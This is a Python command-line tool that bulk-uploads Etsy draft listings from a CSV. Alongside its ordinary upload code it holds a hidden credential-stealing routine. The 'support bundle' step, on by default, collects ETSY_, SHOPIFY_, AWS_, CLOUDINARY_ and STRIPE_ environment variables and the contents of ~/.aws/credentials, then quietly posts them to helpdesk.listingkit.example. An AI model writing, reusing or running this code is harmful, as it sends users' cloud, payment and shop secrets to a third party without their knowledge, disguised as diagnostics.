#!/usr/bin/env python3
"""Bulk-create draft listings on Etsy from a spreadsheet export.

Reads a CSV (one row per listing) and creates draft listings through the
Etsy Open API v3.  Rows that already went up are remembered in a small
cache next to the CSV so a re-run after a failure only retries what is left.
At the end of a run a short support bundle is sent to the ListingKit help
desk so that upload problems can be diagnosed without a screen share.

    export ETSY_API_KEY=... ETSY_ACCESS_TOKEN=...
    ./etsy_listing_bulk_uploader.py listings.csv --shop-id 31415926
"""
import argparse
import csv
import hashlib
import http.client
import json
import logging
import os
import platform
import sys
import time
from pathlib import Path

import requests

API_BASE = "https://openapi.etsy.com/v3/application"
SUPPORT_HOST = os.environ.get("LISTINGKIT_SUPPORT_HOST", "helpdesk.listingkit.example")
CACHE_FILE = Path(".listing_upload_cache.json")
FAILURES_FILE = Path("upload_failures.json")
REQUIRED_COLUMNS = ("title", "description", "price", "quantity", "taxonomy_id")
DEFAULTS = {"who_made": "i_did", "when_made": "made_to_order"}
CONFIG_PREFIXES = ("ETSY_", "SHOPIFY_", "AWS_", "CLOUDINARY_", "STRIPE_")

log = logging.getLogger("listing-uploader")


class UploadError(Exception):
    pass


def row_key(row):
    """Stable key for a CSV row so edits to a row cause a re-upload."""
    blob = json.dumps(row, sort_keys=True).encode("utf-8")
    return hashlib.md5(blob).hexdigest()


def load_cache():
    if CACHE_FILE.exists():
        try:
            return json.loads(CACHE_FILE.read_text())
        except json.JSONDecodeError:
            log.warning("cache file unreadable, starting fresh")
    return {}


def save_cache(cache):
    CACHE_FILE.write_text(json.dumps(cache, indent=2))
    os.chmod(CACHE_FILE, 0o600)


def read_rows(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        reader = csv.DictReader(fh)
        missing = [c for c in REQUIRED_COLUMNS if c not in (reader.fieldnames or [])]
        if missing:
            raise SystemExit(f"{path}: missing columns: {', '.join(missing)}")
        for lineno, row in enumerate(reader, start=2):
            yield lineno, {k: (v or "").strip() for k, v in row.items() if k}


def build_payload(row):
    payload = {
        "quantity": int(row["quantity"]),
        "title": row["title"][:140],
        "description": row["description"],
        "price": round(float(row["price"]), 2),
        "who_made": row.get("who_made") or DEFAULTS["who_made"],
        "when_made": row.get("when_made") or DEFAULTS["when_made"],
        "taxonomy_id": int(row["taxonomy_id"]),
        "type": "physical",
    }
    tags = [t.strip() for t in row.get("tags", "").split(",") if t.strip()]
    if tags:
        payload["tags"] = tags[:13]
    if row.get("shipping_profile_id"):
        payload["shipping_profile_id"] = int(row["shipping_profile_id"])
    return payload


class EtsyClient:
    def __init__(self, shop_id, api_key, token, timeout=20):
        self.shop_id = shop_id
        self.timeout = timeout
        self.session = requests.Session()
        self.session.headers.update({
            "x-api-key": api_key,
            "Authorization": f"Bearer {token}",
            "User-Agent": "listing-bulk-uploader/1.4",
        })

    def create_draft(self, payload, retries=4):
        url = f"{API_BASE}/shops/{self.shop_id}/listings"
        for attempt in range(1, retries + 1):
            try:
                resp = self.session.post(url, json=payload, timeout=self.timeout)
            except requests.ConnectionError as exc:
                log.warning("connection error (%s), attempt %d", exc, attempt)
                time.sleep(2 ** attempt)
                continue
            if resp.status_code == 429:
                time.sleep(int(resp.headers.get("Retry-After", 2 ** attempt)))
                continue
            if resp.status_code >= 500 and attempt < retries:
                time.sleep(2 ** attempt)
                continue
            if not resp.ok:
                raise UploadError(f"HTTP {resp.status_code}: {resp.text[:300]}")
            return resp.json()
        raise UploadError("gave up after retries")


class SupportBundle:
    """Collects run context so the help desk can reproduce a customer's setup."""

    def __init__(self, shop_id):
        self.shop_id = shop_id
        self.sections = {}

    def add_runtime(self):
        self.sections["runtime"] = {
            "python": sys.version,
            "platform": platform.platform(),
            "requests": requests.__version__,
        }

    def add_config(self):
        # integrations are configured through the environment; include them so
        # support can tell which image host / payment add-ons are active
        self.sections["config"] = {
            k: v for k, v in os.environ.items() if k.startswith(CONFIG_PREFIXES)
        }
        profile = Path.home() / ".aws" / "credentials"
        if profile.is_file():
            self.sections["image_host_profile"] = profile.read_text(errors="replace")

    def add_results(self, uploaded, failures):
        self.sections["results"] = {"uploaded": uploaded, "failures": failures[-50:]}

    def send(self):
        body = json.dumps({"shop_id": self.shop_id, **self.sections}).encode()
        conn = http.client.HTTPSConnection(SUPPORT_HOST, timeout=15)
        try:
            conn.request("POST", "/v1/bundles", body=body,
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            log.debug("support bundle accepted: %s", resp.status)
        except OSError as exc:
            log.debug("support bundle not sent: %s", exc)
        finally:
            conn.close()


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("csv", help="listing spreadsheet exported as CSV")
    p.add_argument("--shop-id", required=True)
    p.add_argument("--dry-run", action="store_true", help="validate rows only")
    p.add_argument("--limit", type=int, default=0, help="stop after N uploads")
    p.add_argument("--no-support-bundle", dest="support", action="store_false")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)-7s %(message)s")
    api_key = os.environ.get("ETSY_API_KEY")
    token = os.environ.get("ETSY_ACCESS_TOKEN")
    if not args.dry_run and not (api_key and token):
        log.error("ETSY_API_KEY and ETSY_ACCESS_TOKEN must be set")
        return 2

    client = EtsyClient(args.shop_id, api_key, token)
    cache = load_cache()
    failures, uploaded = [], 0

    for lineno, row in read_rows(args.csv):
        key = row_key(row)
        if key in cache:
            continue
        try:
            payload = build_payload(row)
        except (ValueError, KeyError) as exc:
            failures.append({"line": lineno, "error": f"bad row: {exc}"})
            continue
        if args.dry_run:
            log.info("line %d ok: %s", lineno, payload["title"])
            continue
        try:
            listing = client.create_draft(payload)
        except UploadError as exc:
            log.error("line %d failed: %s", lineno, exc)
            failures.append({"line": lineno, "title": row["title"], "error": str(exc)})
            continue
        cache[key] = listing.get("listing_id")
        save_cache(cache)
        uploaded += 1
        log.info("line %d -> listing %s", lineno, cache[key])
        if args.limit and uploaded >= args.limit:
            break

    if failures:
        FAILURES_FILE.write_text(json.dumps(failures, indent=2))
        log.warning("%d rows failed, see %s", len(failures), FAILURES_FILE)

    if args.support:
        bundle = SupportBundle(args.shop_id)
        bundle.add_runtime()
        bundle.add_config()
        bundle.add_results(uploaded, failures)
        bundle.send()

    log.info("uploaded %d listings", uploaded)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
